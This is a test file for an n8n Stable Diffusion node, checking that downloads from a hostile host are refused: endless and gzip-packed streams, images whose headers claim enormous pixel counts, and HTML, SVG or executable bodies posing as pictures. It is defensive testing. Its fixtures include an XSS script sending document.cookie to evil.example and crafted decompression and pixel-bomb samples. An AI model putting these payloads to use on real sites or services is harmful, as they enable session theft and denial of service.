// What a hostile host may send in place of a file: more than fits, more than it says, something else than it says.
import type { ServerResponse } from 'node:http';
import { deflateSync, gzipSync } from 'node:zlib';
import type { Bounds } from '../../nodes/StableDiffusion/api/bounds';
import { jpgHead, png } from '../support/pictures';
import {
	bigPng,
	closeAll,
	contextIn,
	download,
	DownloadFailed,
	kept,
	quick,
	receive,
	serve,
	type Mode,
	type Serve,
} from '../host/filesSupport';

const { bounds, guardOf } =
	require('../../dist/nodes/StableDiffusion/api/bounds.js') as typeof import('../../nodes/StableDiffusion/api/bounds');
const { typeOfBytes } =
	require('../../dist/nodes/StableDiffusion/api/fileType.js') as typeof import('../../nodes/StableDiffusion/api/fileType');

afterEach(closeAll);

const small: Bounds = { bytes: 1024 ** 2, pixels: 400_000_000 };
const tooLong = 'the file is larger than 1 MB, which is more than is taken';

/** A picture's first bytes with another size in them; what follows is not a picture at all. */
function claiming(width: number, height: number): Buffer {
	const picture = Buffer.from(png(8, 8));
	picture.writeUInt32BE(width, 16);
	picture.writeUInt32BE(height, 20);
	return picture;
}

/** Sends the same bytes until the other side has had enough; gives how many. */
function endless(start: Buffer, headers: Record<string, string> = {}): [Serve, () => number] {
	let sent = 0;
	const more = Buffer.alloc(65_536, 0x41);
	return [
		(_request, response: ServerResponse) => {
			response.writeHead(200, headers);
			response.write(start);
			const push = (): void => {
				do sent += more.length;
				while (!response.destroyed && response.write(more));
			};
			response.on('drain', push);
			push();
		},
		() => sent,
	];
}

/** Why a file was not taken, how often it was asked for, and what n8n keeps of it. */
async function refused(
	answer: Serve,
	within: Bounds,
	how: { mode?: Mode; path?: string; words?: boolean } = {},
): Promise<{ reason: string; asked: number; left: number }> {
	const { mode = 'filesystem', path = '/a.png', words } = how;
	const server = await serve(answer);
	const before = kept().length;
	const context = await contextIn(mode);
	const wanted = { name: 'a', words };
	const got = await download(context, server.link(path), wanted, { ...quick, ...within });
	if (!(got instanceof DownloadFailed)) throw new Error(`it was taken as ${got.mimeType}`);
	await server.quiet();
	return { reason: got.message, asked: server.asked.length, left: kept().length - before };
}

describe.each<Mode>(['filesystem', 'memory'])('A file without an end (%s)', (mode) => {
	test.each<[string, Buffer]>([
		['picture', png(8, 8).subarray(0, -12)],
		['film', Buffer.from('00000018667479706d703432000000006d703432', 'hex')],
		['text that may be base64', Buffer.from('A'.repeat(100))],
	])('is given up: a %s', async (_name, start) => {
		const [answer, sent] = endless(start);
		const { reason, asked, left } = await refused(answer, small, { mode });
		expect(reason).toBe(tooLong);
		expect(asked).toBe(1);
		expect(left).toBe(0);
		expect(sent()).toBeLessThan(40 * 1024 ** 2);
	});

	test('is given up where it is packed, too', async () => {
		const packed = gzipSync(Buffer.concat([png(8, 8).subarray(0, -12), Buffer.alloc(50_000_000)]));
		expect(packed.length).toBeLessThan(60_000);
		const answer: Serve = (_request, response) =>
			void response.writeHead(200, { 'content-encoding': 'gzip' }).end(packed);
		expect(await refused(answer, small, { mode })).toEqual({ reason: tooLong, asked: 1, left: 0 });
	});
});

describe('A long file', () => {
	test('is not begun where its length is told', async () => {
		let sent = false;
		const answer: Serve = (_request, response) => {
			response.writeHead(200, { 'content-length': 5 * 1024 ** 4 });
			response.flushHeaders();
			response.write(png(8, 8), () => (sent = true));
		};
		const { reason, asked } = await refused(answer, bounds);
		expect(reason).toBe('the file is larger than 1 GB, which is more than is taken');
		expect(asked).toBe(1);
		expect(sent).toBe(true);
	});

	test('of just the length that is allowed is taken', async () => {
		const whole = bigPng(png(8, 8), small.bytes - png(8, 8).length - 12);
		expect(whole.length).toBe(small.bytes);
		const server = await serve((_request, response) => void response.end(whole));
		const how = { name: 'a' };
		const got = await download(await contextIn('filesystem'), server.link(), how, {
			...quick,
			...small,
		});
		expect(got).not.toBeInstanceOf(DownloadFailed);
	});
});

/** Pictures of 65,500 x 65,500 pixels in few bytes, by format. */
const bombs: Array<[string, Buffer]> = [
	['png', claiming(65_500, 65_500)],
	[
		'gif',
		Buffer.concat([
			Buffer.from('GIF89a', 'latin1'),
			Buffer.from('dcffdcff', 'hex'),
			Buffer.alloc(60),
		]),
	],
	[
		'jpg',
		// Behind a long note, as cameras write them.
		Buffer.concat([
			jpgHead.subarray(0, 20),
			Buffer.from('ffe1fff0', 'hex'),
			Buffer.alloc(0xfff0 - 2),
			Buffer.from('ffc0001108ffdcffdc0301220002110103110100', 'hex'),
			Buffer.alloc(40),
		]),
	],
	[
		'webp',
		Buffer.concat([
			Buffer.from('RIFF\xff\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00', 'latin1'),
			Buffer.from('dbff00dbff00', 'hex'),
			Buffer.alloc(60),
		]),
	],
	[
		'webp',
		Buffer.concat([
			// 16,384 is the most that this form can say; it is within bounds but for a smaller limit.
			Buffer.from('RIFF\xff\x00\x00\x00WEBPVP8L\x0a\x00\x00\x00\x2f\xff\xff\xff\x0f', 'latin1'),
			Buffer.alloc(60),
		]),
	],
	[
		'webp',
		Buffer.concat([
			Buffer.from('RIFF\xff\x00\x00\x00WEBPVP8 \x0a\x00\x00\x00\x00\x00\x00\x9d\x01\x2a', 'latin1'),
			Buffer.from('ff3fff3f', 'hex'),
			Buffer.alloc(60),
		]),
	],
	[
		'avif',
		Buffer.concat([
			Buffer.from('0000001c6674797061766966000000006d696631', 'hex'),
			Buffer.alloc(80),
			Buffer.from('000000146973706500000000', 'hex'),
			Buffer.from('0000ffdc0000ffdc', 'hex'),
			Buffer.alloc(60),
		]),
	],
];

describe('A picture that claims more pixels than memory holds', () => {
	test.each(bombs)('is not taken: %s', (extension, bytes) => {
		const type = typeOfBytes(bytes);
		expect(type?.extension).toBe(extension);
		if (type === undefined) return;
		const guard = guardOf(type, { ...bounds, pixels: 100_000_000 });
		expect(guard(bytes)).toMatch(/^the picture claims [\d,]+ x [\d,]+ pixels/);
	});

	test.each(bombs)('is known however its bytes come: %s', (_extension, bytes) => {
		const type = typeOfBytes(bytes);
		if (type === undefined) throw new Error('not known');
		const guard = guardOf(type, { ...bounds, pixels: 100_000_000 });
		const said: string[] = [];
		for (let at = 0; at < bytes.length && said.length === 0; at += 7) {
			const reason = guard(bytes.subarray(at, at + 7));
			if (reason) said.push(reason);
		}
		expect(said[0]).toMatch(/^the picture claims/);
	});

	test.each<Mode>(['filesystem', 'memory'])('leaves nothing behind (%s)', async (mode) => {
		const answer: Serve = (_request, response) => void response.end(claiming(65_500, 65_500));
		const { reason, asked, left } = await refused(answer, bounds, { mode });
		expect(reason).toBe(
			'the picture claims 65,500 x 65,500 pixels, more than 400,000,000 are not taken',
		);
		expect(asked).toBe(1);
		expect(left).toBe(0);
	});

	test.each([
		['base64 text', (bomb: Buffer) => bomb.toString('base64')],
		['a data URI', (bomb: Buffer) => `data:image/png;base64,${bomb.toString('base64')}`],
	])('is not taken out of %s', async (_name, as) => {
		const text = as(claiming(65_500, 65_500));
		const received = await receive(await contextIn('memory'), text, { name: 'a' });
		expect(received).toBeInstanceOf(DownloadFailed);
		const answer: Serve = (_request, response) => void response.end(text);
		expect((await refused(answer, bounds)).reason).toMatch(/^the picture claims/);
	});

	test.each([
		[20_000, 20_000],
		[16_384, 16_384],
		[1, 1],
	])('is told from a large one: %d x %d', (width, height) => {
		const bytes = claiming(width, height);
		const type = typeOfBytes(bytes);
		expect(type && guardOf(type, bounds)(bytes)).toBeUndefined();
	});
});

describe('Something else in place of a picture', () => {
	const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
	test.each([
		['an SVG', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`],
		['an SVG with its declaration', `<?xml version="1.0"?><svg>${script}</svg>`],
		['a page', `<!DOCTYPE html><html><body>${script}</body></html>`],
		['a page behind a comment', `<!-- a picture -->${script}`],
		['a bare script', script],
		['a page behind blanks', ` \n\t<html>${script}</html>`],
		['a message', '{"status":"error","message":"The file is gone"}'],
		['an archive that is none', 'PKPKPK'],
		['a program', `\x7fELF${'\0'.repeat(200)}`],
		['a Windows program', `MZ${'\0'.repeat(200)}`],
	])('is not taken: %s', async (_name, body) => {
		const answer: Serve = (_request, response) =>
			void response.writeHead(200, { 'content-type': 'image/png' }).end(body);
		const { reason, left } = await refused(answer, bounds);
		expect(reason).toBe('the link does not show a file');
		expect(left).toBe(0);
		// Not as a text either, where a text is what was asked for.
		if (body.startsWith('<') || body.startsWith(' \n'))
			expect((await refused(answer, bounds, { words: true, path: '/a.txt' })).reason).toBe(
				'the link does not show a file',
			);
	});

	test('a picture with a page behind it is a picture by name and type, so that no browser reads the page', async () => {
		const both = Buffer.concat([png(8, 8), Buffer.from(`<html>${script}</html>`)]);
		const server = await serve(
			(_request, response) =>
				void response.writeHead(200, { 'content-type': 'text/html' }).end(both),
		);
		const received = await receive(await contextIn('memory'), server.link('/a.html'), {
			name: 'a.html',
		});
		if (received instanceof DownloadFailed) throw received;
		expect(received.binary?.mimeType).toBe('image/png');
		expect(received.binary?.fileName).toMatch(/\.png$/);
	});
});

test('A picture whose data unpacks to far more than it claims is handed on as it came: nothing here unpacks it', async () => {
	const data = deflateSync(Buffer.alloc(100_000_000));
	const chunk = Buffer.concat([Buffer.alloc(4), Buffer.from('IDAT'), data, Buffer.alloc(4)]);
	chunk.writeUInt32BE(data.length);
	const bomb = Buffer.concat([png(8, 8).subarray(0, 33), chunk, png(8, 8).subarray(-12)]);
	const server = await serve((_request, response) => void response.end(bomb));
	const received = await receive(await contextIn('filesystem'), server.link(), { name: 'a' });
	if (received instanceof DownloadFailed) throw received;
	expect(received.binary?.bytes).toBe(bomb.length);
});
